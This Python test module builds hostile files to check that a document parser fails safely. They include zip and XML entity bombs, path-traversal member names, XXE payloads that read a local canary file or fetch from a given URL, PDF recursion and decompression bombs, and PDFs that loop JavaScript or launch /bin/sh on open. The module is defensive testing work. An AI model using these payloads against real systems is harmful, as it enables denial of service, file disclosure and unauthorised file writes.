"""Files made to hurt whoever reads them. Each has the codes that it may fail with; None is COMPLETED."""

# ruff: noqa: E501  # Attacks are not easier to read in pieces.

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

MEGABYTE = 1 << 20
CORRUPT, CRASHED = "corrupt_file", "parser_crashed"
TOO_LONG, TIMEOUT, MEMORY = "text_too_long", "parse_timeout", "out_of_memory"
NO_TEXT, UNSUPPORTED, ENCRYPTED = "no_text", "unsupported_media_type", "encrypted_file"


@dataclass(frozen=True)
class HostileFile:
    """`codes` are those that it may fail with; None is COMPLETED."""

    kind: str
    name: str
    content: bytes
    codes: frozenset[str | None]


def hostile_files(*, canary: str, url: str, slow: bool = True) -> Iterator[HostileFile]:
    """All of them, one after another, as some are large.

    Args:
        canary: Path of a file that no text may ever contain.
        url: Where nobody may ever connect to.
        slow: Also those that take seconds to make, or more to read.
    """
    yield from _zips()
    yield from _xml_files(canary, url)
    yield from _pdfs()
    yield from _texts()
    if slow:
        yield from _slow_files()


def _file(kind: str, name: str, content: bytes | str, *codes: str | None) -> HostileFile:
    data = content.encode() if isinstance(content, str) else content
    return HostileFile(kind, name, data, frozenset(codes))


# --- Containers --------------------------------------------------------------------------------------------

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ODT_TYPE = "application/vnd.oasis.opendocument.text"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ODF = "urn:oasis:names:tc:opendocument:xmlns"
DOCUMENT = (
    f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>plain words</w:t></w:r></w:p></w:body></w:document>'
)


def zipped(members: Mapping[str, bytes | str], *, level: int = 6) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def relationships(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{RELATIONSHIPS}">'
        f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}"/></Relationships>'
    )


def docx_members(document: bytes | str = DOCUMENT) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": f'<Types><Override ContentType="{DOCX_TYPE}"/></Types>',
        "_rels/.rels": relationships("officeDocument", "word/document.xml"),
        "word/document.xml": document,
    }


def xlsx_members(sheet: bytes | str) -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": f'<Types><Override ContentType="{XLSX_TYPE}"/></Types>',
        "_rels/.rels": relationships("officeDocument", "xl/workbook.xml"),
        "xl/_rels/workbook.xml.rels": relationships("worksheet", "worksheets/sheet1.xml"),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": sheet,
    }


def odt_members(content: bytes | str) -> dict[str, bytes | str]:
    return {"mimetype": ODT_TYPE, "META-INF/manifest.xml": "<manifest/>", "content.xml": content}


def in_all_containers(kind: str, name: str, xml: bytes | str) -> Iterator[tuple[str, str, bytes]]:
    """(kind, name, content) of the XML as it is, as a picture, and as the main part of office files."""
    data = xml.encode() if isinstance(xml, str) else xml
    yield f"{kind}, xml", f"{name}.xml", data
    yield f"{kind}, svg", f"{name}.svg", data
    yield f"{kind}, docx", f"{name}.docx", zipped(docx_members(data))
    yield f"{kind}, xlsx", f"{name}.xlsx", zipped(xlsx_members(data))
    yield f"{kind}, odt", f"{name}.odt", zipped(odt_members(data))


def _zips() -> Iterator[HostileFile]:
    blank = b" " * (70 * MEGABYTE)
    yield _file("zip bomb", "flat.docx", zipped(docx_members(blank), level=1), CORRUPT)
    yield _file("zip bomb", "flat.xlsx", zipped(xlsx_members(blank), level=1), CORRUPT)
    yield _file("zip bomb", "flat.odt", zipped(odt_members(blank), level=1), CORRUPT)
    yield from _nested()
    yield from _liars()
    yield from _names()
    # Harmless as long as nobody unpacks them all: nobody does.
    yield _file("overlapping", "overlapping.docx", _overlapping(docx_members()), None)
    yield _file(
        "overlapping", "overlapping.xlsx", _overlapping(xlsx_members("<worksheet/>")), NO_TEXT, CORRUPT
    )


def _nested() -> Iterator[HostileFile]:
    inner = zipped({"0.dll": b"\0" * MEGABYTE})
    for _ in range(8):
        inner = zipped({f"lib {number}.zip": inner for number in range(8)})
    yield _file("nested zip", "42.zip", inner, UNSUPPORTED)
    yield _file("nested zip", "42.docx", inner, UNSUPPORTED)
    yield _file("nested zip", "inside.docx", zipped(docx_members() | {"word/embeddings/42.zip": inner}), None)
    yield _file("nested zip", "as a part.docx", zipped(docx_members(inner)), CORRUPT)


def _liars() -> Iterator[HostileFile]:
    """Sizes that the directory declares, and that are not so."""
    honest_docx, honest_xlsx = (
        zipped(docx_members(DOCUMENT + " " * MEGABYTE)),
        zipped(xlsx_members("<worksheet/>" + " " * MEGABYTE)),
    )
    for name, content in (("a.docx", honest_docx), ("a.xlsx", honest_xlsx)):
        yield _file("lying size", f"small {name}", _declare(content, 10), CORRUPT)
        yield _file("lying size", f"large {name}", _declare(content, 0xFFFFFFF0), CORRUPT)
        encrypted = bytearray(content)
        for at in _directory(content):
            encrypted[at + 8] |= 1
        yield _file("encrypted", name, bytes(encrypted), ENCRYPTED)


def _directory(content: bytes) -> Iterator[int]:
    """Where the entries of the central directory begin."""
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        yield at
        at = content.find(b"PK\x01\x02", at + 4)


def _declare(content: bytes, size: int) -> bytes:
    """The largest member says that it unpacks to `size`, in the directory and in front of itself."""
    changed = bytearray(content)
    largest = max(_directory(content), key=lambda at: struct.unpack_from("<I", content, at + 24)[0])
    struct.pack_into("<I", changed, largest + 24, size)
    local = struct.unpack_from("<I", content, largest + 42)[0]
    struct.pack_into("<I", changed, local + 22, size)
    return bytes(changed)


def _overlapping(members: Mapping[str, bytes | str]) -> bytes:
    """A thousand more names for the same compressed megabyte, as in Fifield's bomb."""
    content = bytearray(zipped(dict(members) | {"shared": b"\0" * MEGABYTE}))
    *_, last = _directory(bytes(content))
    entry, end = (
        bytes(content[last : content.rfind(b"PK\x05\x06")]),
        bytes(content[content.rfind(b"PK\x05\x06") :]),
    )
    start = next(_directory(bytes(content)))
    body = bytes(content[: -len(end)]) + entry * 30
    count = len(members) + 1 + 30
    return body + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(body) - start, start, 0)


def _names() -> Iterator[HostileFile]:
    names = (
        "../../../../../../tmp/breached",
        "/tmp/breached",
        "..\\..\\breached",
        "C:\\breached",
        "a\0b",
        ".",
        "n" * 65_000,
    )
    outside = dict.fromkeys(names, "breached")
    yield _file("names", "outside.docx", zipped(docx_members() | outside), None)
    target = docx_members() | {"_rels/.rels": relationships("officeDocument", "../../../../etc/passwd")}
    yield _file("names", "outside relationship.docx", zipped(target), CORRUPT)
    itself = docx_members() | {"word/_rels/document.xml.rels": relationships("styles", "document.xml")}
    yield _file("names", "circle.docx", zipped(itself), None)
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")
        for _ in range(3):
            for name, content in docx_members().items():
                archive.writestr(name, content)
    yield _file("names", "doubles.docx", buffer.getvalue(), None)


# --- XML ---------------------------------------------------------------------------------------------------


def _xml_files(canary: str, url: str) -> Iterator[HostileFile]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    attributes = " ".join(f'a{n}=""' for n in range(100_000))
    namespaces = "".join(f'<x{n}:p xmlns:x{n}="u{n}">' for n in range(200))
    bombs = {
        "laughs": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "ha">{laughs}]><r><p>&l11;</p></r>',
        "quadratic": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]><r>{"&a;" * 50_000}</r>',
        "circle": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>',
        "file": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{canary}">]><r><p>&x;</p></r>',
        "http": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{url}/entity">]><r><p>&x;</p></r>',
        "parameter": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "{url}/parameter"> %x;]><r><p>a</p></r>',
        "dtd": f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{url}/dtd"><r><p>a</p></r>',
        "include": f'<?xml version="1.0"?><r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{canary}" parse="text"/><p>a</p></r>',
        "stylesheet": f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{url}/xsl"?><r><p>a</p></r>',
        "schema": f'<?xml version="1.0"?><r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{url}/xsd"><p>a</p></r>',
        "deep": f'<?xml version="1.0"?>{"<r>" * 100_000}a{"</r>" * 100_000}',
        "attributes": f'<?xml version="1.0"?><r {attributes}>a</r>',
        "namespaces": f'<?xml version="1.0"?><r>{namespaces}a</r>',
        "long name": f'<?xml version="1.0"?><{"r" * 5_000_000}>a',
    }
    for name, xml in bombs.items():
        for kind, file_name, content in in_all_containers("xml bombs", name, xml):
            yield HostileFile(kind, file_name, content, frozenset({None, CORRUPT, NO_TEXT}))

    for name in ("laughs", "file", "http", "parameter"):
        head, _, _ = bombs[name].partition("<r>")
        yield from _entities_within(name, head, {"laughs": "&l11;", "parameter": ""}.get(name, "&x;"))


def _entities_within(name: str, head: str, entity: str) -> Iterator[HostileFile]:
    """In office files that are in order but for the entity in the middle of their words."""
    words = f"plain words {entity}"
    cell = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{words}</t></is></c></row>'
    sheet = f'{head}<worksheet xmlns="{SHEET}"><sheetData>{cell}</sheetData></worksheet>'
    text = (
        f'{head}<o:document-content xmlns:o="{ODF}:office:1.0" xmlns:t="{ODF}:text:1.0">'
        f"<o:body><o:text><t:p>{words}</t:p></o:text></o:body></o:document-content>"
    )
    for ending, content in (
        ("docx", zipped(docx_members(head + DOCUMENT.replace("plain words", words)))),
        ("xlsx", zipped(xlsx_members(sheet))),
        ("odt", zipped(odt_members(text))),
    ):
        yield _file(f"entities, {ending}", f"{name}.{ending}", content, None, CORRUPT)


# --- PDF ---------------------------------------------------------------------------------------------------


def pdf(objects: Mapping[int, bytes | str], *, trailer: str = "", root: int = 1) -> bytes:
    """A PDF of these objects, with a table of references that fits."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, content in objects.items():
        offsets[number] = len(out)
        out += (
            f"{number} 0 obj\n".encode()
            + (content if isinstance(content, bytes) else content.encode())
            + b"\nendobj\n"
        )
    table, size = len(out), max(objects) + 1
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offsets.get(number, 0):010} 00000 n \n".encode() for number in range(1, size))
    out += f"trailer\n<< /Size {size} /Root {root} 0 R {trailer} >>\nstartxref\n{table}\n%%EOF\n".encode()
    return bytes(out)


def stream(content: bytes, extra: str = "") -> bytes:
    return f"<< /Length {len(content)} {extra} >>\nstream\n".encode() + content + b"\nendstream"


WORDS = b"BT /F1 12 Tf 50 700 Td (plain words) Tj ET"
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>"


FORM = "/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R /Y 7 0 R >> >>"


def pdf_objects(**changed: bytes | str) -> dict[int, bytes | str]:
    """A page of two words; `o4="…"` puts another object 4 in place, or one more."""
    objects: dict[int, bytes | str] = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE,
        4: stream(WORDS),
        5: FONT,
    }
    return objects | {int(name[1:]): content for name, content in changed.items()}


def _pdfs() -> Iterator[HostileFile]:
    files: dict[str, bytes] = {
        "page tree circle": pdf(pdf_objects(o2="<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>")),
        "page tree ladder": pdf(
            {1: "<< /Type /Catalog /Pages 2 0 R >>"}
            | {
                n: f"<< /Type /Pages /Kids [{n + 1} 0 R {n + 1} 0 R] /Count {2 ** min(30, 42 - n)} >>"
                for n in range(2, 42)
            }
            | {42: PAGE.replace("4 0 R", "43 0 R"), 43: stream(WORDS)}
        ),
        "huge count": pdf(pdf_objects(o2="<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>")),
        "negative count": pdf(pdf_objects(o2="<< /Type /Pages /Kids [3 0 R] /Count -5 >>")),
        "outline circle": pdf(
            pdf_objects(
                o1="<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R >>",
                o8="<< /First 9 0 R /Last 9 0 R /Count 2 >>",
                o9="<< /Title (a) /Dest [3 0 R /Fit] /Parent 8 0 R /First 8 0 R /Next 10 0 R >>",
                o10="<< /Title (b) /Dest [3 0 R /Fit] /Parent 8 0 R /First 9 0 R /Next 9 0 R >>",
            )
        ),
        "outline of itself": pdf(
            pdf_objects(
                o1="<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R >>",
                o8="<< /First 9 0 R /Last 9 0 R >>",
                o9="<< /Title (a) /Dest [3 0 R /Fit] /Parent 8 0 R /First 9 0 R /Next 9 0 R >>",
            )
        ),
        "deep outline": pdf(
            pdf_objects(o1="<< /Type /Catalog /Pages 2 0 R /Outlines 8 0 R >>", o8="<< /First 9 0 R >>")
            | {
                n: f"<< /Title (t{n}) /Dest [3 0 R /Fit] /Parent 8 0 R /First {n + 1} 0 R >>"
                for n in range(9, 20_000)
            }
        ),
        "previous table is this one": _looping_table(),
        "object stream of itself": pdf(
            pdf_objects(
                o4=stream(WORDS),
                o6=stream(b"6 0 7 0 << >> << >>", "/Type /ObjStm /N 2 /First 8 /Extends 6 0 R"),
            )
        ),
        "object is itself": pdf(pdf_objects(o4="4 0 R")),
        "length is itself": pdf(pdf_objects(o4=b"<< /Length 4 0 R >>\nstream\n" + WORDS + b"\nendstream")),
        "deep arrays": pdf(pdf_objects(o6="[" * 500_000 + "]" * 500_000)),
        "deep dictionaries": pdf(pdf_objects(o6="<< /A " * 200_000 + ">>" * 200_000)),
        "fields circle": pdf(
            pdf_objects(
                o1="<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [8 0 R] >> >>",
                o3=PAGE.replace("/MediaBox", "/Annots [8 0 R 9 0 R] /MediaBox"),
                o8="<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Parent 9 0 R /Kids [9 0 R] /Rect [0 0 9 9] >>",
                o9="<< /Type /Annot /Subtype /Widget /FT /Tx /T (c) /V (d) /Parent 8 0 R /Kids [8 0 R 9 0 R] /Rect [0 0 9 9] >>",
            )
        ),
        "attachments circle": pdf(
            pdf_objects(
                o1="<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 8 0 R >> >>",
                o8="<< /Kids [8 0 R 9 0 R] >>",
                o9="<< /Kids [8 0 R 9 0 R 9 0 R] >>",
            )
        ),
        "font of itself": pdf(
            pdf_objects(o5="<< /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>")
        ),
        "type 3 font draws itself": pdf(
            pdf_objects(
                o5="<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 4 0 R >>"
                " /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F1 5 0 R >> >> >>",
                o4=stream(b"BT /F1 12 Tf (aaaa) Tj ET"),
            )
        ),
        "huge page": pdf(pdf_objects(o3=PAGE.replace("[0 0 600 800]", "[-1e38 -1e38 1e38 1e38]"))),
        "huge numbers": pdf(
            pdf_objects(o4=stream(b"BT /F1 99999999999999999999 Tf 1e999 1e999 Td (a) Tj ET " + WORDS))
        ),
        "nothing but headers": b"%PDF-1.7\n" * 500_000,
        "runs a script": pdf(
            pdf_objects(
                o1="<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while \\(1\\);) >> >>"
            )
        ),
        "opens a program": pdf(
            pdf_objects(o1="<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> >>")
        ),
    }
    for name, content in files.items():
        yield _file("pdf", f"{name}.pdf", content, None, CORRUPT, NO_TEXT)


def _endless_pdfs() -> Iterator[HostileFile]:
    flate = "/Filter /FlateDecode"
    gigabyte = _deflated(1 << 30)
    files: dict[str, bytes] = {
        "compressed gigabyte": pdf(pdf_objects(o4=stream(gigabyte, flate))),
        "compressed three times": pdf(
            pdf_objects(
                o4=stream(
                    zlib.compress(zlib.compress(gigabyte)),
                    "/Filter [/FlateDecode /FlateDecode /FlateDecode]",
                )
            )
        ),
        "endless saving": pdf(pdf_objects(o4=stream(zlib.compress(b"q " * 10_000_000 + WORDS), flate))),
        "endless words": pdf(pdf_objects(o4=stream(zlib.compress((WORDS + b"\n") * 500_000), flate))),
        "form draws itself": pdf(pdf_objects(o4=stream(b"/X Do " + WORDS), o6=stream(b"/X Do " * 100, FORM))),
        "forms draw each other": pdf(
            pdf_objects(
                o4=stream(b"/X Do " + WORDS),
                o6=stream(b"/Y Do " * 50, FORM),
                o7=stream(b"/X Do " * 50 + WORDS, FORM),
            )
        ),
        "forms in a ladder": pdf(
            pdf_objects(o4=stream(b"/X Do " + WORDS))
            | {
                n: stream(
                    b"/X Do " * 10 + WORDS,
                    FORM.replace("6 0 R /Y 7 0 R", f"{n + 1} 0 R"),
                )
                for n in range(6, 26)
            }
        ),
        "one page many times": pdf(
            pdf_objects(o2=f"<< /Type /Pages /Kids [{'3 0 R ' * 20_000}] /Count 20000 >>")
        ),
        "page tree of itself": pdf(pdf_objects(o2="<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>")),
        "millions of objects": b"%PDF-1.7\n" + b"1 0 obj<</A 1 0 R>>endobj\n" * 400_000,
    }
    for name, content in files.items():
        yield _file("endless pdf", f"{name}.pdf", content, None, CORRUPT, TIMEOUT, MEMORY)


def _looping_table() -> bytes:
    content = pdf(pdf_objects(), trailer="/Prev 0000000000")
    at = content.rfind(b"xref\n0 ")
    return content.replace(b"/Prev 0000000000", f"/Prev {at:010}".encode())


def _deflated(size: int) -> bytes:
    compressor, block = zlib.compressobj(1), b" " * MEGABYTE
    return b"".join([*(compressor.compress(block) for _ in range(size // MEGABYTE)), compressor.flush()])


# --- The rest ----------------------------------------------------------------------------------------------


def _texts() -> Iterator[HostileFile]:
    yield _file("json", "deep.json", "[" * 200_000 + "]" * 200_000, CORRUPT, None)
    yield _file("html", "comments.html", "<!---->" * 200_000 + "words", None, NO_TEXT)
    yield _file("mail", "parts.eml", _matryoshka(), CORRUPT)
    yield _file("mail", "header.eml", "From: a@b.c\nReceived: x\nTo: " + "<(" * 10_000 + "\n\nwords", None)
    yield _file("markdown", "marks.md", f"# {'`' * 20_000}\n\n# {'[' * 20_000}\n\nwords", None)
    yield _file("csv", "quotes.csv", 'a,b\n"' + '""' * 100_000, None, CORRUPT)
    yield _file("text", "controls.txt", "words " + "\u202e\u200b\ufeff\u0300" * 50_000, None)
    yield _file("text", "one word.txt", "w" * 300_000, None)
    yield _file("ole2", "circle.xls", _ole2_circle(), CORRUPT, UNSUPPORTED)


def _slow_files() -> Iterator[HostileFile]:
    elements = f'<w:document xmlns:w="{WORD}"><w:body>{"<w:p/>" * (10 * MEGABYTE)}</w:body></w:document>'
    yield _file("element bomb", "elements.docx", zipped(docx_members(elements)), MEMORY)
    many = {f"{number}": b"" for number in range(60_000)}
    yield _file("many members", "many.docx", zipped(docx_members() | many), CORRUPT)
    yield _file("many members", "few.docx", zipped(docx_members() | dict(list(many.items())[:40_000])), None)
    yield _file("json", "bomb.json", "[" + "[]," * 12_000_000 + "1]", MEMORY)
    yield _file("json", "number.json", '{"a": ' + "9" * 5_000_000 + "}", None)
    # The parser of HTML compares each element with those that are open, each attribute with those before it.
    yield _file("html", "deep.html", "<html>" + "<div>" * 200_000 + "a", None, TIMEOUT)
    yield _file(
        "html", "attributes.html", f"<p {' '.join(f'a{n}=b' for n in range(300_000))}>words", None, TIMEOUT
    )
    yield _file("html", "tables.html", "<html>" + "<table><tr><td>" * 50_000 + "words", None)
    yield _file("csv", "columns.csv", "," * 1_000_000 + "words", None, CORRUPT)
    yield from _endless_pdfs()


def _matryoshka() -> str:
    head = "From: a@b.c\nTo: d@e.f\nSubject: s\nMIME-Version: 1.0\n"
    parts = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(1_000))
    return f"{head}{parts}Content-Type: text/plain\n\nwords\n"


def _ole2_circle() -> bytes:
    """Its allocation table says of each sector that it follows itself."""
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0"))
    struct.pack_into("<HH", header, 30, 9, 6)
    struct.pack_into("<II", header, 44, 1, 1)
    struct.pack_into("<109I", header, 76, *([0] + [0xFFFFFFFF] * 108))
    table = struct.pack("<128I", *range(128))
    directory = "Workbook".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", 18)
    return bytes(header) + table + directory.ljust(128, b"\0") * 4
